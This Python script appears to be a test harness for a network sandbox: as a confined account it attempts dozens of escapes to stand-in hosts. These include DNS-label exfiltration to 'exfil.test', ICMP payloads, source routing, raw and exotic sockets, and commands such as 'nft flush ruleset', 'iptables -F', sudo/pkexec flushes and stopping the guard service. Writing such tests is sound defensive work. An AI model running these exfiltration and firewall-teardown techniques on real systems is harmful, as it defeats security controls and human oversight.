#!/usr/bin/python3
"""Ways out, tried as the confined account: run by account_attacks.py, with
nothing but the standard library.

usage: fwattack.py JSON

JSON: {"ways": [name, ...], "allowed4": [address, port], "allowed6": ...,
"own4": address, "own6": address, "link": name, "guard": port, "seconds": 2}.
On standard output one JSON object: name -> [result, seconds]. The result is
the name of an errno, or what was achieved: "connected", "sent" (it was taken,
whatever became of it), "made" (a socket), "done".
"""
import errno
import json
import os
import socket
import struct
import subprocess
import sys
import time

STRANGER4, STRANGER6 = "11.9.0.1", "2600:9::1"
SO_BINDTODEVICE, SO_MARK = 25, 36
IP_OPTIONS, IP_PKTINFO, IP_FREEBIND = 4, 8, 15
IP_UNICAST_IF = 50
IPV6_PKTINFO, IPV6_RTHDR, IPV6_UNICAST_IF = 50, 57, 76
MSG_FASTOPEN = 0x20000000
TCP_FASTOPEN_CONNECT, TCP_ULP = 30, 31
MPTCP, DCCP, SCTP, UDPLITE, SMC = 262, 33, 132, 136, 256
TCP, UDP, ICMP, ICMP6 = 6, 17, 1, 58

IT = {}  # the JSON
WAYS = {}  # name -> function


def way(function):
    WAYS[function.__name__.replace("_", "-")] = function
    return function


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def attempt(function):
    began = time.monotonic()
    try:
        result = function() or "done"
    except OSError as why:
        result = errno.errorcode.get(why.errno, str(why))
    return [result, round(time.monotonic() - began, 3)]


def connected(address, port, kind=socket.SOCK_STREAM, protocol=0, ready=None,
              family=None, scope=0):
    """A connection, by a call that does not wait longer than it may."""
    family = family or family_of(address)
    made = socket.socket(family, kind, protocol)
    made.settimeout(IT["seconds"])
    if ready:
        ready(made)
    try:
        made.connect((address, port) if family == socket.AF_INET
                     else (address, port, 0, scope))
    except TimeoutError:
        raise OSError(errno.ETIMEDOUT, "no answer") from None
    return made


def connects(*arguments, **more):
    with connected(*arguments, **more) as made:
        made.sendall(b"x")
        return "connected"


def sends(address, port, ready=None, protocol=0, data=b"x" * 32, join=False,
          family=None, scope=0):
    """A datagram; refused at the call, or at the next one."""
    family = family or family_of(address)
    to = ((address, port) if family == socket.AF_INET
          else (address, port, 0, scope))
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as made:
        made.settimeout(IT["seconds"])
        if ready:
            ready(made)
        if join:
            made.connect(to)
            made.send(data)
        else:
            made.sendto(data, to)
        return "sent"


def option(level, name, value):
    return lambda made: made.setsockopt(level, name, value)


def on_link(made):
    made.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, IT["link"].encode())


# TCP and UDP to whom it may not.

for number, stranger in ((4, STRANGER4), (6, STRANGER6)):
    for port in (22, 53 + 5300, 80, 443, 580, 853, 8443):
        WAYS["tcp%d-%d" % (number, port)] = (
            lambda a=stranger, p=port: connects(a, p))
        WAYS["udp%d-%d" % (number, port)] = (
            lambda a=stranger, p=port: sends(a, p))
    WAYS["udp%d-joined" % number] = (
        lambda a=stranger: sends(a, 443, join=True))
    WAYS["mptcp%d" % number] = (
        lambda a=stranger: connects(a, 443, protocol=MPTCP))
    WAYS["sctp%d" % number] = (
        lambda a=stranger: connects(a, 443, protocol=SCTP))
    WAYS["udplite%d" % number] = (
        lambda a=stranger: sends(a, 443, protocol=UDPLITE))
    WAYS["udp%d-fragments" % number] = (
        lambda a=stranger: sends(a, 443, data=b"x" * 9000))


@way
def dccp():
    made = socket.socket(socket.AF_INET, 6, DCCP)
    made.connect((STRANGER4, 443))
    return "connected"


@way
def allowed_other_port():
    return connects(IT["allowed4"][0], 80)


@way
def allowed_other_port6():
    return connects(IT["allowed6"][0], 80)


@way
def allowed_udp():
    return sends(*IT["allowed4"])


@way
def allowed_udp6():
    return sends(*IT["allowed6"])


@way
def neighbour_address():
    """Beside the allowed one: 11.8.0.1 -> 11.8.0.254"""
    head = IT["allowed4"][0].rsplit(".", 1)[0]
    return connects(head + ".254", IT["allowed4"][1])


@way
def spoofed_name():
    """The name of an allowed host, said to an address that is not."""
    import ssl
    context = ssl._create_unverified_context()
    made = connected(STRANGER4, 443)
    context.wrap_socket(made, server_hostname="api.allowed.test")
    return "connected"


@way
def mapped_tcp():
    return connects("::ffff:" + STRANGER4, 443, family=socket.AF_INET6)


@way
def mapped_udp():
    return sends("::ffff:" + STRANGER4, 443, family=socket.AF_INET6)


@way
def compatible_tcp():
    return connects("::" + STRANGER4, 443, family=socket.AF_INET6)


@way
def nat64():
    return connects("64:ff9b::" + STRANGER4, 443, family=socket.AF_INET6)


def echo_request(address):
    six = ":" in address
    with socket.socket(family_of(address), socket.SOCK_DGRAM,
                       ICMP6 if six else ICMP) as made:
        made.settimeout(IT["seconds"])
        made.sendto(bytes([128 if six else 8, 0, 0, 0, 0, 0, 0, 1])
                    + b"secret" * 4, (address, 0))
        return "sent"


@way
def ping4():
    return echo_request(STRANGER4)


@way
def ping6():
    return echo_request(STRANGER6)


@way
def ping_allowed():
    return echo_request(IT["allowed4"][0])


@way
def ping_program():
    return ran(["ping", "-c", "1", "-W", "1", "-p", "73656372", STRANGER4])


# Everybody at once.

def to_link(made):
    made.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                    socket.inet_aton(IT["own4"]))


def to_link6(made):
    made.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF,
                    socket.if_nametoindex(IT["link"]))


@way
def multicast4():
    return sends("224.0.0.251", 5353)


@way
def multicast4_on_link():
    return sends("224.0.0.251", 5353, ready=to_link)


@way
def multicast6():
    return sends("ff02::fb", 5353, ready=to_link6)


def may_broadcast(made):
    made.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)


@way
def broadcast():
    return sends("255.255.255.255", 9, ready=may_broadcast)


@way
def broadcast_of_net():
    return sends(IT["own4"].rsplit(".", 1)[0] + ".255", 9,
                 ready=may_broadcast)


@way
def link_local():
    return connects("fe80::1", 443, scope=socket.if_nametoindex(IT["link"]))


# This machine.

for name, address in (("4", "127.0.0.1"), ("6", "::1"), ("4-other",
                                                         "127.9.9.9")):
    WAYS["loopback%s-tcp" % name] = lambda a=address: connects(a, 8443)
    WAYS["loopback%s-udp" % name] = lambda a=address: sends(a, 8443)


@way
def own_address():
    return connects(IT["own4"], 8443)


@way
def own_address6():
    return connects(IT["own6"], 8443)


@way
def any_address():
    return connects("0.0.0.0", 8443)


@way
def other_guard():
    return sends("127.0.0.1", IT["guard"] + 1)


@way
def own_guard_directly():
    """It may, and gets no more there than by port 53."""
    sends("127.0.0.1", IT["guard"])


# Port 53 that is not the guard's.

def with_link_info(address, port):
    """By the control message that names an interface."""
    six = ":" in address
    index = socket.if_nametoindex(IT["link"])
    with socket.socket(family_of(address), socket.SOCK_DGRAM) as made:
        if six:
            extra = [(socket.IPPROTO_IPV6, IPV6_PKTINFO,
                      bytes(16) + struct.pack("I", index))]
        else:
            extra = [(socket.IPPROTO_IP, IP_PKTINFO,
                      struct.pack("i8x", index))]
        made.sendmsg([b"secret"], extra, 0, (address, port))
        return "sent"


def unicast_if(made):
    index = socket.htonl(socket.if_nametoindex(IT["link"]))
    if made.family == socket.AF_INET6:
        made.setsockopt(socket.IPPROTO_IPV6, IPV6_UNICAST_IF, index)
    else:
        made.setsockopt(socket.IPPROTO_IP, IP_UNICAST_IF, index)


for number, stranger in ((4, STRANGER4), (6, STRANGER6)):
    WAYS["dns%d-by-device" % number] = (
        lambda a=stranger: sends(a, 53, ready=on_link))
    WAYS["dns%d-tcp-by-device" % number] = (
        lambda a=stranger: connects(a, 53, ready=on_link))
    WAYS["dns%d-by-control" % number] = (
        lambda a=stranger: with_link_info(a, 53))
    WAYS["dns%d-by-unicast-if" % number] = (
        lambda a=stranger: sends(a, 53, ready=unicast_if))
    WAYS["udp%d-by-control" % number] = (
        lambda a=stranger: with_link_info(a, 443))
    WAYS["tcp%d-by-device" % number] = (
        lambda a=stranger: connects(a, 443, ready=on_link))


@way
def dns_multicast():
    return sends("224.0.0.251", 53, ready=to_link)


@way
def dns_multicast6():
    return sends("ff02::fb", 53, ready=to_link6)


@way
def dns_broadcast():
    return sends("255.255.255.255", 53, ready=may_broadcast)


@way
def dns_broadcast_bound():
    def ready(made):
        may_broadcast(made)
        made.bind((IT["own4"], 0))
    return sends("255.255.255.255", 53, ready=ready)


@way
def dns_udplite():
    return sends(STRANGER4, 53, protocol=UDPLITE)


def bound_to(address):
    def ready(made):
        if address not in ("127.0.0.1", "::1", IT["own4"], IT["own6"]):
            made.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
        made.bind((address, 0))
    return ready


@way
def dns_bound():
    return sends(STRANGER4, 53, ready=bound_to(IT["own4"]))


@way
def dns_bound6():
    return sends(STRANGER6, 53, ready=bound_to(IT["own6"]))


@way
def dns_tcp_bound():
    return connects(STRANGER4, 53, ready=bound_to(IT["own4"]))


@way
def dns_tcp_bound6():
    return connects(STRANGER6, 53, ready=bound_to(IT["own6"]))


def question(name, number=7):
    wire = b"".join(bytes([len(label)]) + label.encode()
                    for label in name.split("."))
    return (struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0)
            + wire + b"\0" + struct.pack(">HH", 1, 1))


def asks(address, ready=None, name="c2VjcmV0.%s.exfil.test"):
    """The answer's code, as REFUSED and so on."""
    name = name % os.urandom(12).hex() if "%s" in name else name
    with socket.socket(family_of(address), socket.SOCK_DGRAM) as made:
        made.settimeout(IT["seconds"])
        if ready:
            ready(made)
        made.connect((address, 53))
        made.send(question(name))
        got = made.recv(4096)
        return "rcode %d, %d answers" % (got[3] & 15,
                                         struct.unpack(">H", got[6:8])[0])


@way
def labels4():
    return asks(STRANGER4)


@way
def labels6():
    return asks(STRANGER6)


@way
def labels_stub():
    return asks("127.0.0.53")


@way
def labels_below_allowed():
    return asks(STRANGER4, name="%s.api.allowed.test")


@way
def labels_many():
    return {asks(STRANGER4) for _ in range(50)}.pop()


@way
def question_and_gone():
    """The answer finds nobody: what the kernel says about that quotes it."""
    for address in (STRANGER4, STRANGER6) * 3:
        with socket.socket(family_of(address), socket.SOCK_DGRAM) as made:
            made.sendto(question("secret.exfil.test"), (address, 53))


@way
def question_and_gone_bound():
    for address, own in ((STRANGER4, IT["own4"]), (STRANGER6, IT["own6"])) * 3:
        with socket.socket(family_of(address), socket.SOCK_DGRAM) as made:
            made.bind((own, 0))
            try:
                made.sendto(question("secret.exfil.test"), (address, 53))
            except OSError:
                pass


def stream_and_gone(address, own=None):
    """Ends of a connection to the guard: what the kernel sends for nobody."""
    query = question("secret.exfil.test")
    for wait, half in ((0, False), (0.3, False), (0.3, True)):
        made = socket.socket(family_of(address))
        made.settimeout(IT["seconds"])
        if own:
            made.bind((own, 0))
        try:
            made.connect((address, 53))
            made.sendall(struct.pack(">H", len(query)) + query)
            if half:
                made.shutdown(socket.SHUT_WR)
            time.sleep(wait)
        except OSError:
            pass
        made.close()
    time.sleep(0.3)


@way
def stream_and_gone4():
    stream_and_gone(STRANGER4)


@way
def stream_and_gone6():
    stream_and_gone(STRANGER6)


@way
def stream_and_gone_bound4():
    stream_and_gone(STRANGER4, IT["own4"])


@way
def stream_and_gone_bound6():
    stream_and_gone(STRANGER6, IT["own6"])


@way
def not_dns_to_guard():
    with connected(STRANGER4, 53) as made:
        made.sendall(b"\xff\xffGET / HTTP/1.0\r\n\r\n" * 100)
        try:
            return "%d bytes back" % len(made.recv(100))
        except TimeoutError:
            return "nothing back"


# Games with sockets.

@way
def mark():
    return connects(STRANGER4, 443, ready=option(socket.SOL_SOCKET, SO_MARK,
                                                 1))


def from_port(port):
    return lambda made: made.bind(("", port))


@way
def from_guard_port():
    return connects(STRANGER4, 443, ready=from_port(IT["guard"]))


@way
def from_port_53():
    return sends(STRANGER4, 443, ready=from_port(53))


@way
def foreign_source():
    return sends(STRANGER4, 443, ready=bound_to("11.9.0.9"))


@way
def fast_open():
    with socket.socket() as made:
        made.settimeout(IT["seconds"])
        made.settimeout(None)
        made.sendto(b"secret", MSG_FASTOPEN, (STRANGER4, 443))
        return "sent"


@way
def fast_open_later():
    with socket.socket() as made:
        made.settimeout(IT["seconds"])
        made.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        made.connect((STRANGER4, 443))
        made.sendall(b"secret")
        return "sent"


@way
def not_waiting():
    """connect() that does not wait, and the socket is closed at once."""
    for _ in range(20):
        with socket.socket() as made:
            made.setblocking(False)
            made.connect_ex((STRANGER4, 443))


@way
def corked():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.connect((STRANGER4, 443))
        made.send(b"secret", socket.MSG_MORE)


@way
def simultaneous_open():
    """Both sides call each other: no listener, and no SYN that is answered."""
    with socket.socket() as made:
        made.settimeout(0.3)
        made.bind((IT["own4"], 7000))
        made.connect((STRANGER4, 7000))
        return "connected"


@way
def reconnected():
    """An allowed connection's socket, for another address."""
    made = connected(*IT["allowed4"])
    made.connect_ex(("0.0.0.0", 0))
    undo = struct.pack("H14x", socket.AF_UNSPEC)
    import ctypes
    ctypes.CDLL(None).connect(made.fileno(), undo, 16)
    made.settimeout(IT["seconds"])
    made.connect((STRANGER4, 443))
    return "connected"


@way
def source_route4():
    """By way of the allowed host."""
    loose = bytes([131, 7, 4]) + socket.inet_aton(STRANGER4) + b"\0"
    return connects(*IT["allowed4"], ready=option(socket.IPPROTO_IP,
                                                  IP_OPTIONS, loose))


@way
def strict_source_route4():
    strict = bytes([137, 7, 4]) + socket.inet_aton(STRANGER4) + b"\0"
    return connects(*IT["allowed4"], ready=option(socket.IPPROTO_IP,
                                                  IP_OPTIONS, strict))


@way
def timestamp_option4():
    """Bytes of the account's own in the header."""
    stamps = bytes([68, 12, 5, 0]) + b"secretxx"
    return connects(*IT["allowed4"], ready=option(socket.IPPROTO_IP,
                                                  IP_OPTIONS, stamps))


@way
def routing_header6():
    """Segments: the allowed host first, then another."""
    last = socket.inet_pton(socket.AF_INET6, STRANGER6)
    first = socket.inet_pton(socket.AF_INET6, IT["allowed6"][0])
    segments = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + last + first
    return connects(*IT["allowed6"], ready=option(socket.IPPROTO_IPV6,
                                                  IPV6_RTHDR, segments))


# Kinds of sockets that are not of TCP or UDP, or do it for another.

KINDS = {"raw": (socket.AF_INET, socket.SOCK_RAW, ICMP),
         "raw6": (socket.AF_INET6, socket.SOCK_RAW, ICMP6),
         "raw-ip": (socket.AF_INET, socket.SOCK_RAW, 255),
         "packet": (socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
         "packet-dgram": (socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300),
         "xdp": (44, socket.SOCK_RAW, 0),
         # TCP or UDP in the kernel's name
         "smc": (43, socket.SOCK_STREAM, 0),
         "smc6": (43, socket.SOCK_STREAM, 1),
         "smc-inet": (socket.AF_INET, socket.SOCK_STREAM, SMC),
         "rxrpc": (33, socket.SOCK_DGRAM, 2),
         "rds": (21, socket.SOCK_SEQPACKET, 0),
         "tipc": (30, socket.SOCK_DGRAM, 0),
         "l2tp": (socket.AF_INET, socket.SOCK_DGRAM, 115),
         "pppox": (24, socket.SOCK_STREAM, 1),
         "can": (29, socket.SOCK_RAW, 1),
         "bluetooth": (31, socket.SOCK_RAW, 1),
         "ax25": (3, socket.SOCK_DGRAM, 0), "x25": (9, 5, 0),
         "phonet": (35, socket.SOCK_DGRAM, 0),
         "ieee802154": (36, socket.SOCK_DGRAM, 0),
         "qipcrtr": (42, socket.SOCK_DGRAM, 0),
         "mctp": (45, socket.SOCK_DGRAM, 0)}
for name, kind in KINDS.items():
    def make(kind=kind):
        socket.socket(*kind).close()
        return "made"
    WAYS["socket-" + name] = make


@way
def vsock():
    with socket.socket(40, socket.SOCK_STREAM) as made:
        made.settimeout(IT["seconds"])
        made.connect((2, 443))
        return "connected"


@way
def upper_protocol():
    with socket.socket() as made:
        made.setsockopt(TCP, TCP_ULP, b"smc")
        return "made"


# Being called.

def say_ready():
    """Whoever is to call reads this on our standard error."""
    print("ready", file=sys.stderr, flush=True)


def served(kind, family, seconds=3):
    with socket.socket(family, kind) as made:
        made.bind(("", 7001))
        made.settimeout(seconds)
        if kind == socket.SOCK_DGRAM:
            say_ready()
            got, caller = made.recvfrom(100)
            made.sendto(b"secret" + got, caller)
            return "sent"
        made.listen(1)
        say_ready()
        peer, _ = made.accept()
        with peer:
            peer.settimeout(1)
            peer.sendall(b"secret")
            return "connected"


@way
def serve_tcp4():
    return served(socket.SOCK_STREAM, socket.AF_INET)


@way
def serve_tcp6():
    return served(socket.SOCK_STREAM, socket.AF_INET6)


@way
def serve_udp4():
    return served(socket.SOCK_DGRAM, socket.AF_INET)


@way
def serve_udp6():
    return served(socket.SOCK_DGRAM, socket.AF_INET6)


def no_resets(made):
    """A filter of the socket's own: what the refusal tells it is not heard."""
    import ctypes
    words = [(0x30, 0, 0, 13), (0x45, 0, 1, 4), (0x06, 0, 0, 0),
             (0x06, 0, 0, 0x40000)]  # byte of flags & RST: drop; else keep
    program = ctypes.create_string_buffer(b"".join(
        struct.pack("HBBI", *word) for word in words))
    made.setsockopt(socket.SOL_SOCKET, 26, struct.pack(
        "HxxxxxxP", len(words), ctypes.addressof(program)))


@way
def serve_and_leave():
    """Accept, queue bytes that cannot be sent yet, and leave them to the
    kernel. So many calls hang that it answers the next with a cookie, which
    belongs to no socket."""
    with socket.socket() as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        no_resets(made)
        made.bind(("", 7002))
        made.listen(0)
        made.settimeout(IT.get("serve", 4))
        say_ready()
        peer, _ = made.accept()
        time.sleep(0.3)
        peer.setblocking(False)
        peer.setsockopt(TCP, socket.TCP_CORK, 1)
        sent = peer.send(b"secret" * 20)
        peer.close()
        return "sent %d" % sent


# Undoing it.

def ran(command, data=b""):
    """How a program ended."""
    try:
        done = subprocess.run(command, input=data, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, timeout=5,
                              env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"},
                              check=False)
    except FileNotFoundError:
        return "ENOENT"
    except PermissionError:
        return "EACCES"
    except subprocess.TimeoutExpired:
        return "hung"
    return "exit %d" % done.returncode


UNDO = {
    "nft-flush": ["nft", "flush", "ruleset"],
    "nft-delete": ["nft", "delete", "table", "inet", "trizone_accounts"],
    "nft-list": ["nft", "list", "ruleset"],
    "nft-in-namespace": ["unshare", "-Ur", "nft", "flush", "ruleset"],
    "iptables-flush": ["iptables", "-F"],
    "ip6tables-flush": ["ip6tables", "-F"],
    "iptables-legacy": ["iptables-legacy", "-F"],
    "ipset-flush": ["ipset", "flush"],
    "rule-flush": ["ip", "rule", "flush"],
    "rule-delete": ["ip", "rule", "del", "pref", "50"],
    "route": ["ip", "route", "add", "11.9.0.1", "dev", "lo"],
    "address": ["ip", "address", "add", "11.7.0.77/24", "dev", "lo"],
    "mptcp-endpoint": ["ip", "mptcp", "endpoint", "add", "127.0.0.1",
                       "signal"],
    "sysctl": ["sysctl", "-w", "net.ipv4.ip_forward=1"],
    "pfctl": ["pfctl", "-d"],
    "sudo": ["sudo", "-n", "nft", "flush", "ruleset"],
    "su": ["su", "-c", "nft flush ruleset"],
    "pkexec": ["pkexec", "nft", "flush", "ruleset"],
    "systemctl": ["systemctl", "stop", "trizone-executor"],
    "systemd-run": ["systemd-run", "nft", "flush", "ruleset"],
    "modprobe": ["modprobe", "-r", "nf_tables"],
    "own-namespace": ["unshare", "-Urn", "ip", "link", "add", "tz0", "type",
                      "veth", "peer", "tz1", "netns", "1"],
    "enter-namespace": ["nsenter", "-t", "1", "--net", "true"],
    "map-others": ["unshare", "-U", "--map-auto", "--map-root-user", "id"],
}
for name, command in UNDO.items():
    WAYS["undo-" + name] = lambda command=command: ran(command)


@way
def undo_files():
    """Ours, by every call that could change one."""
    done = []
    for path in IT.get("files", []):
        for change in (lambda p: open(p, "ab"), lambda p: os.unlink(p),
                       lambda p: os.rename(p, p + ".old"),
                       lambda p: os.chmod(p, 0o777),
                       lambda p: os.truncate(p, 0),
                       lambda p: os.symlink("/tmp", p + ".link")):
            try:
                change(path)
                done.append(path)
            except OSError:
                pass
    return "changed " + " ".join(sorted(set(done))) if done else "EACCES"


@way
def undo_kill():
    for pid in IT.get("pids", []):
        for number in (1, 9, 15, 19):
            os.kill(pid, number)
    return "killed" if IT.get("pids") else "EPERM"


@way
def undo_trace():
    for pid in IT.get("pids", []):
        os.open("/proc/%d/mem" % pid, os.O_RDWR)
    return "opened" if IT.get("pids") else "EACCES"


@way
def undo_ports():
    """In the guard's place."""
    for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM),
                         (socket.AF_INET6, socket.SOCK_STREAM)):
        with socket.socket(family, kind) as made:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            made.bind(("", IT["guard"]))
    return "made"


def main():
    IT.update(json.loads(sys.argv[1]))
    IT.setdefault("seconds", 2)
    print(json.dumps({name: attempt(WAYS[name]) for name in IT["ways"]}))


if __name__ == "__main__":
    if sys.argv[1:] == ["--list"]:
        print("\n".join(WAYS))
    else:
        main()
